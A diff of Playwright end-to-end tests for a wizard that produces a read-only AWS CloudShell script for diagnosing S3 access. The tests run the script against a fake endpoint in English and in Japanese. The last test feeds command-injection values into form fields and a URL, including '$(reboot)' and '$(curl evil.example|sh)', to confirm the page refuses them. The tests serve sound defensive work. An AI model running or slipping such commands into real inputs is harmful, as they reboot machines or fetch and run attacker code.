@@ -1,18 +1,26 @@
 import { expect, test } from "@playwright/test";
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
-import { ensureAwsCli } from "../support/aws-cli";
+import { findOrInstallAwsCli } from "../support/aws-cli";
 import { runCollectionScript } from "../support/collection-script";
 import { expectNoSeriousA11yViolations, watchConsole } from "./support";
 
 // The third way in: the collection script for AWS CloudShell, shown, copied and downloaded from the production
 // server, run with the AWS CLI against the fake AWS endpoint that playwright.config.ts starts (the key id selects the
-// account), and its bundle given back to the wizard. No credential is typed into the page.
+// account), and its bundle given back to the wizard, in English (role) and in Japanese (access key). No credential is
+// typed into the page. Without an AWS CLI that can be found or installed, the round trips are skipped with the reason
+// (tests/integration/cloudshell-script.test.ts proves the script's calls equal the live collector's on any machine).
 const FAKE_AWS_URL = `http://127.0.0.1:${Number(process.env.E2E_FAKE_AWS_PORT ?? 4599)}`;
 const ROLE_ARN = "arn:aws:iam::111122223333:role/tidb-import";
 const EXTERNAL_ID = "696e6672612d617069a79c22fa5740944bf8bb32e4a0c4e3fe";
 const BUCKET_URI = "s3://tidb-cloud-source-data/mydata/";
-const BUNDLE = readFileSync(join(process.cwd(), "tests", "fixtures", "bundles", "role-ok.json"), "utf8");
+
+/** The user runs the script in CloudShell: here bash and the AWS CLI against the fake endpoint, with the account's key. */
+async function runInCloudShell(script: string, accessKeyId: string, secretAccessKey: string) {
+  const cli = findOrInstallAwsCli();
+  if (!cli.path) throw new Error(cli.reason);
+  return runCollectionScript(script, { awsCli: cli.path, endpoint: FAKE_AWS_URL, accessKeyId, secretAccessKey });
+}
 
 test.describe("wizard, CloudShell script", () => {
   test.use({ permissions: ["clipboard-read", "clipboard-write"] });
@@ -20,6 +28,8 @@ test.describe("wizard, CloudShell script", () => {
   test("shows the script, copies it, downloads it; run in CloudShell, its bundle comes back a clean pass", async ({
     page,
   }) => {
+    const cli = findOrInstallAwsCli();
+    test.skip(!cli.path, `skipped: ${cli.reason}`);
     test.setTimeout(600_000);
     const console = watchConsole(page);
     await page.goto("/en/wizard");
@@ -29,6 +39,10 @@ test.describe("wizard, CloudShell script", () => {
     await page.getByLabel("TiDB Cloud account ID").fill("380838443567");
     await page.getByLabel("CloudShell script").check();
     await expect(page.getByLabel("Secret access key")).toHaveCount(0);
+    // the permissions the CloudShell session needs: the diagnosing policy, with a copy button
+    await page.getByText("Permissions your CloudShell session needs").click();
+    await expect(page.getByLabel("Permissions your CloudShell session needs")).toContainText("s3:GetBucketPolicy");
+    await expect(page.getByRole("button", { name: "Copy policy" })).toBeVisible();
     await page.getByRole("button", { name: "Show the script for these values" }).click();
     const block = page.getByLabel("Collection script");
     await expect(block).toContainText("#!/usr/bin/env bash");
@@ -47,13 +61,7 @@ test.describe("wizard, CloudShell script", () => {
     const script = readFileSync((await download.path())!, "utf8");
     expect(script).toBe(copied);
 
-    // The user runs it in CloudShell: here bash and the AWS CLI against the fake endpoint, with the account's key.
-    const run = await runCollectionScript(script, {
-      awsCli: ensureAwsCli(),
-      endpoint: FAKE_AWS_URL,
-      accessKeyId: "AKIAFAKEROLEOK000001",
-      secretAccessKey: "cloudshell-session-secret-not-for-the-page",
-    });
+    const run = await runInCloudShell(script, "AKIAFAKEROLEOK000001", "cloudshell-session-secret-not-for-the-page");
     try {
       expect(run.code, run.stderr).toBe(0);
       await page.getByLabel("Or choose the file:").setInputFiles(join(run.dir, "s3-access-doctor-bundle.json"));
@@ -77,28 +85,57 @@ test.describe("wizard, CloudShell script", () => {
     console.assertClean();
   });
 
-  test("in Japanese: the script speaks Japanese, and the pasted bundle is analysed", async ({ page }) => {
+  test("in Japanese, with an access key: the script speaks Japanese, runs in CloudShell, and its bundle comes back a clean pass", async ({
+    page,
+  }) => {
+    const cli = findOrInstallAwsCli();
+    test.skip(!cli.path, `skipped: ${cli.reason}`);
+    test.setTimeout(600_000);
+    const console = watchConsole(page);
     await page.goto("/ja/wizard");
+    await page.getByLabel("IAM ユーザーの AWS アクセスキー").check();
     await page.getByLabel("バケット URI").fill(BUCKET_URI);
-    await page.getByLabel("ロール ARN", { exact: true }).fill(ROLE_ARN);
-    await page.getByLabel("TiDB Cloudの外部ID").fill(EXTERNAL_ID);
+    await page.getByLabel("TiDB Cloud に指定したアクセスキー ID").fill("AKIAFAKEIMPORTKEY001");
     await page.getByLabel("CloudShell スクリプト").check();
     await page.getByRole("button", { name: "この入力内容でスクリプトを表示" }).click();
     await expect(page.getByLabel("収集スクリプト")).toContainText("読み取り専用の収集スクリプト");
-    await expect(page.getByRole("link", { name: "s3-access-doctor-collect.sh をダウンロード" })).toBeVisible();
+    await expect(page.getByLabel("収集スクリプト")).toContainText("ACCESS_KEY_ID='AKIAFAKEIMPORTKEY001'");
+    await expect(page.getByText("CloudShell セッションに必要な権限")).toBeVisible();
     await expectNoSeriousA11yViolations(page);
-    await page.getByLabel("スクリプトが書き出したファイル（s3-access-doctor-bundle.json）").fill(BUNDLE);
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      page.getByRole("link", { name: "s3-access-doctor-collect.sh をダウンロード" }).click(),
+    ]);
+    const script = readFileSync((await download.path())!, "utf8");
+    expect(script).toContain("読み取り専用の収集スクリプト");
+
+    const run = await runInCloudShell(script, "AKIAFAKEACCESSKEY001", "cloudshell-session-secret-not-for-the-page");
+    try {
+      expect(run.code, run.stderr).toBe(0);
+      expect(run.stderr).toContain("書き出したファイル");
+      await page
+        .getByLabel("スクリプトが書き出したファイル（s3-access-doctor-bundle.json）")
+        .fill(readFileSync(join(run.dir, "s3-access-doctor-bundle.json"), "utf8"));
+    } finally {
+      run.cleanup();
+    }
     await page.getByRole("button", { name: "診断を実行" }).click();
     await expect(page.getByRole("heading", { level: 1, name: "診断結果" })).toBeVisible();
     await expect(page.locator('[data-status="fail"]')).toHaveCount(0);
-    await page
-      .getByRole("navigation", { name: "診断ステップ" })
-      .getByRole("link", { name: /デフォルトの暗号化/ })
-      .click();
-    await expect(page.locator('[data-finding="objects.encryption-keys"]')).toHaveAttribute("data-status", "pass");
+    // read from the bundle as a live run reads the account: the objects and the key's owner too
+    const nav = page.getByRole("navigation", { name: "診断ステップ" });
+    await nav.getByRole("link", { name: /デフォルトの暗号化/ }).click();
+    for (const id of ["objects.present", "objects.sse-c", "kms.aws-managed-key"])
+      await expect(page.locator(`[data-finding="${id}"]`)).toHaveAttribute("data-status", "pass");
+    expect(await page.content()).not.toContain("cloudshell-session-secret-not-for-the-page");
+    console.assertClean();
   });
 
   test("a hostile value is refused at its field, and a crafted link gets no script", async ({ page, request }) => {
+    // a crafted link to the wizard fills in nothing: the form starts empty whatever the address holds
+    await page.goto(`/en/wizard?bucketUri=${encodeURIComponent("s3://b/$(reboot)/")}&roleArn=x%27%3Breboot#step-trust`);
+    await expect(page.getByLabel("Bucket URI")).toHaveValue("");
+    await expect(page.getByLabel("Role ARN", { exact: true })).toHaveValue("");
     await page.goto("/en/wizard");
     await page.getByLabel("Bucket URI").fill(BUCKET_URI);
     await page.getByLabel("Role ARN", { exact: true }).fill(`${ROLE_ARN}$(curl evil.example|sh)`);
